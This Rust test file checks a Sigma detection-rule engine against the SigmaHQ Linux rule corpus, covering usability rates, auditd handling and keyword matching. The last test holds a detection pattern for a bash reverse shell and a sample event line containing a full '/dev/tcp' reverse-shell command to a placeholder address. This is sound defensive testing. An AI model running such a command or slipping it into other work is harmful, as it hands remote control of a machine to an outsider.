//! The SigmaHQ Linux rules of the corpus that use the `process_creation`,
//! `file_event` and `network_connection` log sources load and are usable on
//! Ward's events (issue 7 acceptance: at least 90 %), and every rule that is
//! not says why.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use ward_rules::RuleSetBuilder;

fn yml_files(dir: &Path, out: &mut Vec<PathBuf>) {
    let entries = std::fs::read_dir(dir)
        .unwrap_or_else(|e| panic!("sigma corpus {} is missing ({e})", dir.display()));
    for entry in entries {
        let path = entry.expect("dir entry").path();
        if path.is_dir() {
            yml_files(&path, out);
        } else if path.extension().is_some_and(|x| x == "yml") {
            out.push(path);
        }
    }
}

/// The category a rule file declares, read with a plain line scan (not the
/// code under test).
fn declared_category(text: &str) -> Option<String> {
    let mut in_logsource = false;
    for line in text.lines() {
        if line.starts_with("logsource:") {
            in_logsource = true;
            continue;
        }
        if in_logsource {
            if !line.starts_with(' ') {
                break;
            }
            if let Some(v) = line.trim().strip_prefix("category:") {
                return Some(v.trim().to_string());
            }
        }
    }
    None
}

#[test]
fn ninety_percent_of_process_file_and_network_rules_are_usable() {
    let root = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../../../shared/corpora/sigma-linux/rules/linux");
    let mut files = Vec::new();
    yml_files(&root, &mut files);
    files.sort();
    let wanted = ["process_creation", "file_event", "network_connection"];
    let mut by_cat: BTreeMap<String, (usize, usize)> = BTreeMap::new();
    let mut not_usable = Vec::new();
    for f in &files {
        let text = std::fs::read_to_string(f).expect("read rule");
        let Some(cat) = declared_category(&text) else {
            continue;
        };
        if !wanted.contains(&cat.as_str()) {
            continue;
        }
        let mut b = RuleSetBuilder::new();
        b.add_source(f.display().to_string(), text);
        let (set, errors) = b.build_lenient();
        let entry = by_cat.entry(cat.clone()).or_default();
        entry.0 += 1;
        let usable = errors.is_empty() && set.len() == 1 && set.rules().all(|r| r.usable());
        if usable {
            entry.1 += 1;
            let r = set.rules().next().expect("one rule");
            assert!(
                r.kinds.contains(&match cat.as_str() {
                    "process_creation" => "process.exec",
                    "file_event" => "file.created",
                    _ => "net.connect",
                }),
                "{}: kinds {:?}",
                f.display(),
                r.kinds
            );
            assert!(r.author.is_some(), "{} has an author", f.display());
        } else {
            let why: Vec<String> = errors
                .iter()
                .map(|e| e.to_string())
                .chain(
                    set.rules()
                        .map(|r| format!("fields not collected: {:?}", r.unknown_fields)),
                )
                .collect();
            not_usable.push(format!("{}: {}", f.display(), why.join("; ")));
        }
    }
    let total: usize = by_cat.values().map(|v| v.0).sum();
    let usable: usize = by_cat.values().map(|v| v.1).sum();
    eprintln!("usable per category: {by_cat:?}");
    for n in &not_usable {
        eprintln!("not usable: {n}");
    }
    assert!(total >= 130, "only {total} rules in the three categories");
    assert_eq!(by_cat.len(), 3, "{by_cat:?}");
    assert!(
        usable * 10 >= total * 9,
        "{usable} of {total} usable: {not_usable:#?}"
    );
    // Each reason names the cause.
    for n in &not_usable {
        assert!(
            n.contains("W1") || n.contains("fields not collected"),
            "{n}"
        );
    }
}

#[test]
fn auditd_rules_compile_but_see_no_ward_events() {
    let text = "title: t\nid: x\nauthor: a\nlogsource: {product: linux, service: auditd}\n\
                detection: {sel: {type: EXECVE}, condition: sel}\nlevel: high\n";
    let mut b = RuleSetBuilder::new();
    b.add_source("a.yml", text);
    let set = b.build().expect("compiles");
    let r = set.rule("x").expect("rule");
    assert!(r.kinds.is_empty());
    assert!(!r.usable());
    // A field the log source does not carry.
    let text = "title: t\nid: y\nlogsource: {product: linux, category: network_connection}\n\
                detection: {sel: {DestinationHostname: pool.example}, condition: sel}\n";
    let mut b = RuleSetBuilder::new();
    b.add_source("b.yml", text);
    let set = b.build().expect("compiles");
    let r = set.rule("y").expect("rule");
    assert_eq!(r.kinds, vec!["net.connect"]);
    assert_eq!(r.unknown_fields, vec!["DestinationHostname".to_string()]);
    assert!(!r.usable());
}

#[test]
fn the_log_source_is_kept_as_written() {
    let text = "title: t\nid: z\nlogsource: {product: linux, service: auditd}\n\
                detection: {sel: {a: b}, condition: sel}\n";
    let mut b = RuleSetBuilder::new();
    b.add_source("z.yml", text);
    let set = b.build().expect("compiles");
    assert_eq!(
        set.rule("z").unwrap().logsource,
        "product: linux, service: auditd"
    );
}

#[test]
fn keyword_lists_with_the_all_modifier_search_the_raw_line() {
    use ward_events::{Event, EventData, SessionOpened};
    let text = "title: t\nid: k\nlevel: high\nlogsource: {product: linux}\n\
                detection:\n  keywords:\n    '|all':\n      - 'bash -c /bin/bash'\n      - '&/dev/tcp/'\n  condition: keywords\n";
    let mut b = RuleSetBuilder::new();
    b.add_source("k.yml", text);
    let set = b.build().expect("compiles");
    let r = set.rule("k").unwrap();
    assert!(r.usable(), "{:?}", r.unknown_fields);
    let ev = |raw: &str| {
        let mut e = Event::new(
            0,
            "t",
            EventData::SessionOpened(SessionOpened {
                service: "sshd".into(),
                user: "x".into(),
                by_user: None,
            }),
        );
        e.set_raw(raw);
        e
    };
    let mut engine = ward_rules::Engine::new(set);
    assert_eq!(
        engine
            .process(&ev("x bash -c /bin/bash 0>&/dev/tcp/1.2.3.4/80 y"), 0)
            .len(),
        1
    );
    assert!(
        engine
            .process(&ev("x bash -c /bin/bash only"), 0)
            .is_empty(),
        "all of them"
    );
}
